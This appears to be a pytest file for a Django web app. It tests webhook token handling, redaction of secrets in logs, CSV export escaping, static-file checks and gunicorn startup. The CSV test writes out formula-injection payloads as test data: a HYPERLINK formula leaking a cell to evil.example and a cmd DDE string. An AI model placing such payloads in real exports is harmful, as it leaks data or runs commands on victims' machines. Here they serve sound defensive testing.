"""The web process: webhook tokens stay out of URLs and logs, exports cannot carry formulae,
gunicorn refuses to start without SECRET_KEY or collected static files, check --deploy is clean."""
from __future__ import annotations

import json
import subprocess
import sys
import time
import urllib.error
import urllib.request
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.core.management.base import SystemCheckError
from django.urls import reverse

from sync.models import InboxEvent, Product
from tds_site.checks import check_static_manifest
from tds_site.export_formats import escape_cell
from tds_site.gunicorn_logging import redact_query
from tests.tds_site.gunicorn_process import ROOT, free_port, gunicorn, gunicorn_env
from tests.webhooks.helpers import SECRET, item_doc, post

QUERY_SECRET = "query-secret-value-0123456789"
WEB_KEY = "web-test-key-Jx3vQ9-w_Lr8Tz1mNc5Kp0Ys7Hd2Fb6Ge4Ua9Wq3Ro8El1Vi5Tn7"  # passes check --deploy's test


# --- webhook token: header by default, query only when allowed -------------------------------
@pytest.mark.django_db(transaction=True)
def test_the_webhook_token_is_taken_from_the_header_and_from_the_query_only_when_allowed(live_server, settings):
    settings.ZOHO_WEBHOOK_AUTH, settings.TDS_WEBHOOK_KICK_SECONDS = "token", 0
    assert settings.ZOHO_WEBHOOK_TOKEN_IN_QUERY is False  # the default
    by_query = post(live_server.url, f"/api/webhooks/zoho?token={quote(SECRET)}", json.dumps(item_doc("11")).encode())
    by_header = post(live_server.url, "/api/webhooks/zoho", json.dumps(item_doc("12")).encode(),
                     headers={"X-TDS-Webhook-Token": SECRET})
    assert (by_query.status, by_header.status) == (401, 200)
    settings.ZOHO_WEBHOOK_TOKEN_IN_QUERY = True
    allowed = post(live_server.url, f"/api/webhooks/zoho?token={quote(SECRET)}", json.dumps(item_doc("13")).encode())
    assert allowed.status == 200
    assert set(InboxEvent.objects.values_list("zoho_id", flat=True)) == {"12", "13"}


def test_secret_query_values_are_redacted():
    assert redact_query("POST /api/webhooks/zoho?token=abc&page=2 HTTP/1.1") == \
        "POST /api/webhooks/zoho?token=[redacted]&page=2 HTTP/1.1"
    assert redact_query("a=1&access_token=x;client_secret=y") == "a=1&access_token=[redacted];client_secret=[redacted]"
    assert redact_query("/items?page=2&sort=name") == "/items?page=2&sort=name"


# --- CSV export --------------------------------------------------------------------------------
@pytest.mark.django_db
def test_a_product_named_like_a_formula_is_exported_as_text(staff_client):
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    Product.objects.create(zoho_item_id="4600000000000001", name=name, sku="-12", description="+cmd|' /C calc'!A0")
    form = staff_client.get(reverse("admin:sync_product_export")).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label == "csv")
    data = {"format": csv_index, **{field: "on" for field in form.fields if field.startswith("productresource_")}}
    response = staff_client.post(reverse("admin:sync_product_export"), data)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert ',"\'=HYPERLINK(' in body and ',"=HYPERLINK(' not in body
    assert "'+cmd|" in body and ",-12," in body  # a negative number stays a number


@pytest.mark.parametrize("cell,escaped", [
    ("=1+1", "'=1+1"), ("==1", "'==1"), ("+1+1", "'+1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("-5", "-5"), ("+3.5e2", "+3.5e2"), ("plain", "plain"), (None, None), (12, 12),
])
def test_escape_cell(cell, escaped):
    assert escape_cell(cell) == escaped


# --- static manifest check ------------------------------------------------------------------------
def test_missing_manifest_is_one_check_error_until_collectstatic(settings, tmp_path):
    settings.STATIC_ROOT = tmp_path / "static"
    settings.STORAGES = {**settings.STORAGES, "staticfiles": {
        "BACKEND": "django.contrib.staticfiles.storage.ManifestStaticFilesStorage"}}
    [error] = check_static_manifest()
    assert error.id == "tds.E001" and "staticfiles.json is missing" in error.msg and "collectstatic" in error.msg
    with pytest.raises(SystemCheckError, match="tds.E001"):
        call_command("check", "--deploy")
    call_command("check")  # commands that serve no pages are not stopped by it
    call_command("collectstatic", "--noinput", verbosity=0)
    assert check_static_manifest() == []
    call_command("check", "--deploy")  # warnings about the test settings only, no error


def test_no_manifest_storage_needs_no_manifest(settings, tmp_path):
    settings.STATIC_ROOT = tmp_path / "never-collected"
    assert check_static_manifest() == []


# --- gunicorn with the project's config --------------------------------------------------------------
@pytest.mark.parametrize("extra,line", [
    ({}, "TDS configuration error: SECRET_KEY must be set when DEBUG is off"),
    ({"SECRET_KEY": WEB_KEY, "TDS_MANIFEST_STATIC": "true", "STATIC_ROOT": "/nonexistent/tds-static"},
     "TDS configuration error: static files are not collected: /nonexistent/tds-static/staticfiles.json is missing"),
])
def test_gunicorn_refuses_to_start_with_one_line(extra, line):
    process = gunicorn(free_port(), gunicorn_env(**extra))
    output, _ = process.communicate(timeout=60)
    assert process.returncode != 0
    assert line in output


def test_gunicorn_serves_with_threads_and_keeps_query_secrets_out_of_its_access_log():
    port = free_port()
    process = gunicorn(port, gunicorn_env(SECRET_KEY=WEB_KEY))
    try:
        url = f"http://127.0.0.1:{port}/api/webhooks/zoho?token={QUERY_SECRET}&page=2"
        for _ in range(100):
            try:
                urllib.request.urlopen(url, timeout=5)
            except urllib.error.HTTPError as answer:
                assert answer.code == 405  # GET on the webhook: the request reached Django
                break
            except OSError:
                time.sleep(0.1)
        else:
            pytest.fail("gunicorn did not answer")
    finally:
        process.terminate()
        output, _ = process.communicate(timeout=30)
    assert "Using worker: tds_site.gunicorn_worker.JsonErrorsWorker" in output  # gthread's, JSON errors
    assert "/api/webhooks/zoho?token=[redacted]&page=2" in output
    assert QUERY_SECRET not in output


# --- settings a new checkout and a production host start with ------------------------------------
def _manage(*args: str, **extra: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in gunicorn_env(**extra).items() if k not in ("ZOHO_SANDBOX", "WEB_CONCURRENCY")}
    return subprocess.run([sys.executable, "manage.py", *args], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=120)


def test_commands_on_a_fresh_checkout_need_no_secret_key():
    result = _manage("check")
    assert result.returncode == 0 and "no issues" in result.stdout, result.stderr


def test_check_deploy_is_clean_with_the_readme_production_variables():
    result = _manage("check", "--deploy", "--fail-level", "WARNING", SECRET_KEY="p" * 30 + "-0123456789-abcdefghijkl",
                     ALLOWED_HOSTS="erp.example.com", CSRF_TRUSTED_ORIGINS="https://erp.example.com",
                     SECURE_SSL_REDIRECT="true", SESSION_COOKIE_SECURE="true", CSRF_COOKIE_SECURE="true",
                     SECURE_HSTS_SECONDS="31536000", TDS_BEHIND_PROXY="true", TDS_METRICS_TOKEN="m" * 32)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout
